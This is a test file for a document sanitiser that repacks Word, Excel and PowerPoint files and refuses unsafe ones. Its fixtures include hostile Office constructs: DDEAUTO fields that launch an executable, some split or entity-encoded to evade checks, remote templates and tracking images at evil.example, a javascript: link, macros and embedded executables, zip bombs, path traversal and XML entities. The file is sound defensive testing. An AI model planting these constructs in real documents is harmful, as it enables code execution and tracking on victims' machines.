import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { Document, ExternalHyperlink, ImageRun, Packer, Paragraph, TextRun } from "docx";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { readXlsx, writeXlsx } from "hucre/xlsx";
import sharp from "sharp";
import { expect, test } from "vitest";
import { temporaryFolder } from "#test/folder";
import { keptFile } from "./checked-file.ts";
import { cleanFile } from "./clean-file.ts";
import { type FileType, typesOf } from "./sniff.ts";

type Parts = Record<string, Uint8Array>;
const ROOM = typesOf(["pdf", "image", "office"]);
const OPEN = "application/vnd.openxmlformats-officedocument";
const RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

async function cleaned(bytes: Uint8Array, accepted: readonly FileType[] = ROOM) {
  const folder = temporaryFolder("office");
  await writeFile(join(folder, "in"), bytes);
  const result = await cleanFile(join(folder, "in"), join(folder, "out"), accepted);
  return { result, bytes: await readFile(join(folder, "out")).catch(() => undefined) };
}

async function word() {
  const picture = await sharp({ create: { width: 20, height: 10, channels: 3, background: "#145" } })
    .png()
    .toBuffer();
  const link = new ExternalHyperlink({ link: "https://example.org/call?a=1&b=2", children: [new TextRun("The call")] });
  const image = new ImageRun({ type: "png", data: picture, transformation: { width: 20, height: 10 } });
  return Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph("Part B"), new Paragraph({ children: [link, image] })] }] }));
}
const excel = () =>
  writeXlsx({
    sheets: [
      {
        name: "Budget",
        rows: [
          ["Partner", "Costs"],
          ["Basakale", 240],
        ],
      },
    ],
  });
const rels = (...lines: string[]) =>
  strToU8(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join("")}</Relationships>`);
const relation = (type: string, target: string, more = "") => `<Relationship Id="rIdX" Type="${type}" Target="${target}"${more}/>`;
const slides = () =>
  zipSync({
    "[Content_Types].xml": strToU8(
      `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/ppt/presentation.xml" ContentType="${OPEN}.presentationml.presentation.main+xml"/><Override PartName="/ppt/slides/slide1.xml" ContentType="${OPEN}.presentationml.slide+xml"/></Types>`,
    ),
    "_rels/.rels": rels(relation(`${RELATION}/officeDocument`, "ppt/presentation.xml")),
    "ppt/presentation.xml": strToU8("<p:presentation/>"),
    "ppt/_rels/presentation.xml.rels": rels(relation(`${RELATION}/slide`, "slides/slide1.xml")),
    "ppt/slides/slide1.xml": strToU8("<p:sld><a:t>Kick-off</a:t></p:sld>"),
  });

/** A file with some of its parts changed, packed again. */
async function changed(bytes: Uint8Array, change: (parts: Parts) => void) {
  const parts = unzipSync(bytes);
  change(parts);
  return zipSync(parts);
}
const within = (parts: Parts, name: string, from: string | RegExp, to: string) => {
  const before = strFromU8(parts[name] ?? new Uint8Array());
  const after = before.replace(from, to);
  expect(after).not.toBe(before);
  parts[name] = strToU8(after);
};
const put = (name: string, bytes: Uint8Array) => (parts: Parts) => {
  parts[name] = bytes;
};
const addType = (type: string) => (parts: Parts) =>
  within(parts, "[Content_Types].xml", "</Types>", `<Override PartName="/word/x.xml" ContentType="${type}"/></Types>`);
const addRelation = (line: string) => (parts: Parts) =>
  within(parts, "word/_rels/document.xml.rels", "</Relationships>", `${line}</Relationships>`);
const addText = (text: string) => (parts: Parts) => within(parts, "word/document.xml", "<w:body>", `<w:body>${text}`);

test("files of Word, Excel and PowerPoint are packed anew with all their parts, and open as before", async () => {
  const given = await word();
  const { result, bytes } = await cleaned(Buffer.concat([given]));
  expect(result).toEqual({ type: "docx" });
  const [before, after] = [unzipSync(given), unzipSync(bytes ?? new Uint8Array())];
  expect(Object.keys(after)[0]).toBe("[Content_Types].xml");
  expect(Object.keys(after).sort()).toEqual(Object.keys(before).sort());
  for (const name of ["word/document.xml", ...Object.keys(before).filter((name) => name.endsWith(".png"))])
    expect(after[name]).toEqual(before[name]);
  expect(strFromU8(after["word/_rels/document.xml.rels"] ?? new Uint8Array())).toContain("https://example.org/call?a=1&#38;b=2");

  const table = await cleaned(await excel());
  expect(table.result).toEqual({ type: "xlsx" });
  expect((await readXlsx(table.bytes ?? new Uint8Array())).sheets[0]?.rows[1]).toEqual(["Basakale", 240]);
  expect((await cleaned(slides())).result).toEqual({ type: "pptx" });
});

test("the table of a chart is kept within, and one with macros there is found", async () => {
  const inner = await excel();
  const withTable = (table: Uint8Array) => changed(slides(), put("ppt/embeddings/Sheet1.xlsx", table));
  const { result, bytes } = await cleaned(await withTable(inner));
  expect(result).toEqual({ type: "pptx" });
  const kept = unzipSync(bytes ?? new Uint8Array())["ppt/embeddings/Sheet1.xlsx"] ?? new Uint8Array();
  expect((await readXlsx(kept)).sheets[0]?.name).toBe("Budget");
  const macros = await changed(inner, put("xl/vbaProject.bin", strToU8("x")));
  expect((await cleaned(await withTable(macros))).result).toEqual({ refusal: "document.office_active" });
  const nested = await changed(inner, put("xl/embeddings/again.xlsx", inner));
  expect((await cleaned(await withTable(nested))).result).toEqual({ refusal: "document.office_active" });
});

test.each<[string, (parts: Parts) => void]>([
  ["a project of macros", put("word/vbaProject.bin", strToU8("x"))],
  ["an object of another program", put("word/embeddings/oleObject1.bin", strToU8("x"))],
  ["a program", put("word/media/setup.exe", strToU8("MZ"))],
  ["a type with macros", addType("application/vnd.ms-word.vbaData+xml")],
  ["a control", addType("application/vnd.ms-office.activeX+xml")],
  ["a page that is read in", addRelation(relation(`${RELATION}/aFChunk`, "page.html"))],
  ["an object, named with references to signs", addRelation(relation(`${RELATION}/ole&#79;bject`, "media/x.png"))],
  ["a field that starts a program", addText('<w:fldSimple w:instr="DDEAUTO c:\\\\x.exe"/>')],
  [
    "the same over several runs",
    addText(
      '<w:fldChar w:fldCharType="begin"/><w:instrText>D&#68;E</w:instrText><w:instrText>AUTO c:\\\\x.exe</w:instrText><w:fldChar w:fldCharType="end"/>',
    ),
  ],
])("%s in a file of Word is refused", async (_, change) => {
  const { result, bytes } = await cleaned(await changed(await word(), change));
  expect(result).toEqual({ refusal: "document.office_active" });
  expect(bytes).toBeUndefined();
});

test.each<[string, (parts: Parts) => void]>([
  ["a template", addRelation(relation(`${RELATION}/attachedTemplate`, "https://evil.example/t.dotm", ' TargetMode="External"'))],
  ["a template on a server of files", addRelation(relation(`${RELATION}/attachedTemplate`, "\\\\evil\\t.dotm"))],
  ["a picture", addRelation(relation(`${RELATION}/image`, "https://evil.example/seen.png", ' TargetMode="&#69;xternal"'))],
  ["a link that runs", addRelation(relation(`${RELATION}/hyperlink`, "javascript:alert(1)", ' TargetMode="External"'))],
  ["a text read in by a field", addText('<w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example&quot;"/>')],
])("%s from another place is refused", async (_, change) => {
  expect((await cleaned(await changed(await word(), change))).result).toEqual({ refusal: "document.office_links" });
});

test("a workbook that fetches data or talks to another program is refused", async () => {
  const data = await changed(await excel(), (parts) =>
    within(
      parts,
      "xl/_rels/workbook.xml.rels",
      "</Relationships>",
      `${relation(`${RELATION}/connections`, "connections.xml")}</Relationships>`,
    ),
  );
  expect((await cleaned(data)).result).toEqual({ refusal: "document.office_links" });
  const talks = await changed(
    await excel(),
    put("xl/externalLinks/externalLink1.xml", strToU8("<x:externalLink><x:ddeLink/></x:externalLink>")),
  );
  expect((await cleaned(talks)).result).toEqual({ refusal: "document.office_active" });
});

test("macros under another name, templates, plain zip files and old files are told from what is accepted", async () => {
  const named = (type: string) => async () =>
    changed(await word(), (parts) => within(parts, "[Content_Types].xml", `${OPEN}.wordprocessingml.document.main+xml`, type));
  expect((await cleaned(await named("application/vnd.ms-word.document.macroEnabled.main+xml")())).result).toEqual({
    refusal: "document.office_active",
  });
  expect((await cleaned(await named(`${OPEN}.wordprocessingml.template.main+xml`)())).result).toEqual({ refusal: "document.type" });
  expect((await cleaned(zipSync({ "a.txt": strToU8("a") }))).result).toEqual({ refusal: "document.type" });
  expect((await cleaned(await word(), typesOf(["pdf", "image"]))).result).toEqual({ refusal: "document.type" });
  expect((await cleaned(await excel(), ["docx"])).result).toEqual({ refusal: "document.type" });
  const old = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]);
  expect((await cleaned(old)).result).toEqual({ refusal: "document.office_old" });
  expect((await cleaned(old, ["pdf"])).result).toEqual({ refusal: "document.type" });
});

test("what unfolds to too much, leads out of its folder, stands twice, is cut off or defines entities is refused", async () => {
  const bomb = await changed(slides(), put("ppt/media/a.png", new Uint8Array(90_000_000)));
  expect(bomb.length).toBeLessThan(1_000_000);
  expect((await cleaned(bomb)).result).toEqual({ refusal: "document.too_complex" });
  const many = await changed(slides(), (parts) => {
    for (let n = 0; n < 3100; n++) parts[`ppt/slides/s${n}.xml`] = strToU8("<s/>");
  });
  expect((await cleaned(many)).result).toEqual({ refusal: "document.too_complex" });
  for (const name of ["../../tmp/x.xml", "/etc/x.xml", "ppt\\x.xml", "PPT/presentation.xml"])
    expect((await cleaned(await changed(slides(), put(name, strToU8("<x/>"))))).result, name).toEqual({
      refusal: "document.damaged",
    });
  expect((await cleaned((await word()).subarray(0, 3000))).result).toEqual({ refusal: "document.damaged" });
  for (const xml of ['<!DOCTYPE x [<!ENTITY y "z">]><x/>', '<?xml version="1.0" encoding="UTF-16"?><x/>', "<x>\0</x>"])
    expect((await cleaned(await changed(slides(), put("ppt/slides/slide1.xml", strToU8(xml))))).result, xml).toEqual({
      refusal: "document.damaged",
    });
});

test("the process that rebuilds files keeps one of Word, under the type that it has", async () => {
  const path = join(temporaryFolder("office-apart"), "in");
  await writeFile(path, await word());
  expect(await keptFile("one", path, ROOM)).toMatchObject({ type: "docx" });
});
